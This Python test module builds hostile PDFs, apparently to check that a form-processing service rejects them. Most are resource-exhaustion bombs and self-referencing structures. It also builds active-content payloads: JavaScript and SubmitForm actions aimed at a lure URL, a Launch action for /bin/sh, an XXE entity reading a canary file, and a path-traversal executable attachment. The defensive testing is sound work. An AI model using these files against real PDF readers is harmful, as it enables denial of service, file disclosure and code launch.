"""Hostile PDF files."""

from __future__ import annotations

import zlib

from hostile_kit import (
    PRINTED,
    READ,
    Lure,
    bad,
    bare_pdf,
    every,
    hostile,
    mark,
    page_pdf,
    pdf_writer,
    stream,
    written,
)
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    ByteStringObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

_FLATE = b"/Filter/FlateDecode"


def _packed(data: bytes) -> bytes:
    return stream(zlib.compress(data, 9), _FLATE)


def _laughs() -> bytes:
    """Ten drawings, each of which draws the next ten times."""
    layers = []
    for level in range(10):
        inside = b"/Resources<</XObject<</X %d 0 R>>/Font<</F 5 0 R>>>>" % (7 + level)
        layers.append(stream(b"/X Do " * 10, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]" + inside))
    last = stream(b"BT /F 9 Tf (ha) Tj ET", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    return page_pdf(stream(b"/X Do"), *layers, last, resources=b"/XObject<</X 6 0 R>>")


def _itself() -> bytes:
    extra = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>"
    return page_pdf(stream(b"/X Do"), stream(b"/X Do", extra), resources=b"/XObject<</X 6 0 R>>")


def _lines() -> bytes:
    return b"".join(b"%d %d m %d 9 l S\n" % (n % 595, n % 842, n % 591) for n in range(200_000))


every(
    {
        "pdf: drawing laughs": lambda _: _laughs(),
        "pdf: drawing that draws itself": lambda _: _itself(),
        "pdf: states saved for ever": lambda _: page_pdf(_packed(b"q Q " * 4_000_000)),
        "pdf: 200 000 lines": lambda _: page_pdf(_packed(_lines())),
        "pdf: 2 million letters": lambda _: page_pdf(
            _packed(b"BT /F 1 Tf " + b"(%b) Tj " % (b"a" * 1_000) * 2_000 + b"ET")
        ),
        "pdf: one content 400 000 times": lambda _: _repeated(),
    },
    "PDF_TROP_LOURD",
    "PDF_ENDOMMAGE",
)


def _repeated() -> bytes:
    writer = pdf_writer(PRINTED)
    page = writer.pages[0]
    first = page.raw_get("/Contents")
    first = first[0] if isinstance(first, ArrayObject) else first
    page[NameObject("/Contents")] = ArrayObject([first] * 400_000)
    return written(writer)


every(
    {
        "pdf: 60 000 lines": lambda _: page_pdf(_packed(_lines()[: 60_000 * 17])),
        "pdf: 400 000 letters": lambda _: page_pdf(
            _packed(b"BT /F 1 Tf " + b"(%b) Tj " % (b"a" * 1_000) * 400 + b"ET")
        ),
        "pdf: brackets 100 000 deep": lambda _: page_pdf(stream(b"[" * 100_000)),
        "pdf: picture within the text, without end": lambda _: page_pdf(
            stream(b"BI /W 99999 /H 99999 /BPC 8 /CS /G ID " + b"x" * 9_999)
        ),
        "pdf: stream that unfolds to 300 MB": lambda _: page_pdf(_packed(bytes(300_000_000))),
        "pdf: stream packed ten times": lambda _: page_pdf(_matryoshka()),
        "pdf: row of a thousand million": lambda _: page_pdf(
            stream(zlib.compress(b"x"), _FLATE + b"/DecodeParms<</Predictor 12/Columns 1000000000>>")
        ),
        "pdf: length of a thousand million": lambda _: page_pdf(b"<</Length 1000000000>>\nstream\nBT ET\nendstream"),
        "pdf: text map that names a file": lambda lure: _pickled(lure),  # noqa: PLW0108 -- defined below
        "pdf: stream kept in a file": lambda lure: page_pdf(
            stream(b"", b"/F<</FS/URL/F(%b)>>/FFilter/ASCIIHexDecode" % lure.url.encode())
        ),
        "pdf: stream kept in another file": lambda lure: page_pdf(stream(b"", b"/F(%b)" % str(lure.canary).encode())),
        "pdf: pages that hold themselves": lambda _: bare_pdf(
            [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>"]
        ),
        "pdf: a thousand million pages": lambda _: bare_pdf(
            [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 1000000000>>"]
        ),
        "pdf: table of places that comes round": lambda _: _round(),
        "pdf: size of a thousand million": lambda _: bare_pdf(
            [b"<</Type/Catalog/Pages 2 0 R>>"], trailer=b"/Size 1000000000"
        ),
        "pdf: object that is itself": lambda _: bare_pdf([b"1 0 R"]),
        "pdf: text map of a million ranges": lambda _: _wide_map(),
        "pdf: fields that hold themselves": lambda _: page_pdf(
            stream(b""), b"<</FT/Tx/T(a)/Kids[6 0 R]/Parent 6 0 R>>", root=b"/AcroForm<</Fields[6 0 R]>>"
        ),
    },
    "FORMULAIRE_INCONNU",
    "ILLISIBLE",
    "PDF_ENDOMMAGE",
    "FICHIER_REFUSE",
    "CALCUL_EXCESSIF",
    "PDF_TROP_LOURD",
    "PDF_TROP_DE_PAGES",
)


def _matryoshka() -> bytes:
    data = bytes(30_000_000)
    for _ in range(10):
        data = zlib.compress(data, 9)
    return stream(data, b"/Filter[" + b"/FlateDecode" * 10 + b"]")


def _pickled(lure: Lure) -> bytes:
    """A font whose map of letters is the path of a file, which old readers unpickled."""
    place = str(lure.canary.with_suffix("")).encode()
    font = b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/%b/DescendantFonts[7 0 R]>>" % place.replace(b"/", b"#2F")
    child = b"<</Type/Font/Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<</Registry(%b)/Ordering(x)>>>>" % place
    return page_pdf(stream(b"BT /G 9 Tf (ab) Tj ET"), font, child, resources=b"/Font<</G 6 0 R>>")


def _round() -> bytes:
    raw = bad.pdf(("Bonjour",))
    place = raw.rfind(b"startxref")
    start = raw[place:].split()[1]
    return raw.replace(b"trailer\n<<", b"trailer\n<</Prev " + start + b"\n", 1)


def _wide_map() -> bytes:
    ranges = b"begincmap 1 beginbfrange <0000> <FFFFFFF> <0041> endbfrange endcmap"
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 7 0 R>>"
    return page_pdf(stream(b"BT /G 9 Tf (ab) Tj ET"), font, stream(ranges), resources=b"/Font<</G 6 0 R>>")


def _name(text: str) -> NameObject:
    return NameObject(f"/{text}")


def _acting(kind: str, **words: object) -> bytes:
    """The real form with an action that starts when it is opened."""
    writer = pdf_writer()
    action = DictionaryObject({_name("S"): _name(kind)})
    for key, value in words.items():
        action[_name(key)] = value if isinstance(value, DictionaryObject) else TextStringObject(str(value))
    writer.root_object[_name("OpenAction")] = writer._add_object(action)
    for widget in writer.pages[0]["/Annots"][:3]:
        widget.get_object()[_name("A")] = action
    return written(writer)


def _attached() -> bytes:
    writer = pdf_writer()
    writer.add_attachment("../../evil.exe", b"MZ" + bytes(1_000))
    return written(writer)


def _xfa(*, dynamic: bool, lure: Lure) -> bytes:
    writer = pdf_writer()
    packet = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{lure.canary}">]><xdp:xdp xmlns:xdp="x">&e;</xdp:xdp>'
    writer.root_object["/AcroForm"].get_object()[_name("XFA")] = ByteStringObject(packet.encode())
    if dynamic:
        writer.root_object[_name("NeedsRendering")] = BooleanObject(True)  # noqa: FBT003 -- pypdf's signature
    return written(writer)


every(
    {
        "pdf: script": lambda lure: _acting("JavaScript", JS=f"app.launchURL('{lure.url}')"),
        "pdf: program to launch": lambda _: _acting("Launch", F="/bin/sh"),
        "pdf: address to open": lambda lure: _acting("URI", URI=lure.url),
        "pdf: address to send the fields to": lambda lure: _acting("SubmitForm", F=lure.url),
        "pdf: file of fields to take in": lambda lure: _acting("ImportData", F=str(lure.canary)),
        "pdf: other document to go to": lambda lure: _acting("GoToR", F=str(lure.canary)),
        "pdf: embedded program": lambda _: _attached(),
        "pdf: static XFA": lambda lure: _xfa(dynamic=False, lure=lure),
    },
    READ,
)
hostile("pdf: dynamic XFA", "PDF_XFA")(lambda lure: _xfa(dynamic=True, lure=lure))
hostile("pdf: dynamic XFA without fields", "PDF_XFA")(lambda _: bad.pdf_dynamic())
hostile("pdf: a password", "PDF_CHIFFRE")(lambda _: bad.pdf_encrypted(bad.pdf(), user="a", owner="b"))
hostile("pdf: 500 pages", "PDF_TROP_DE_PAGES")(lambda _: bad.pdf(pages=500))
hostile("pdf: our mark on 100 000 letters", "FORMULAIRE_EFFACE", "CALCUL_EXCESSIF", "FORMULAIRE_INCONNU")(
    lambda _: bad.pdf(("a" * 2_000,) * 50, keywords=mark())
)


def _endless_fields() -> bytes:
    """The real form, one of whose fields is its own child and its own parent."""
    writer = pdf_writer()
    field = writer.root_object["/AcroForm"].get_object()["/Fields"][0]
    holder = field.get_object()
    holder[_name("Kids")] = ArrayObject([field.indirect_reference if hasattr(field, "indirect_reference") else field])
    holder[_name("Parent")] = holder[_name("Kids")][0]
    holder[_name("Ff")] = NumberObject(0)
    return written(writer)


hostile(
    "pdf: real form with a field that is its own parent", READ, "PDF_ENDOMMAGE", "FICHIER_REFUSE", "VERSION_MODIFIEE"
)(lambda _: _endless_fields())
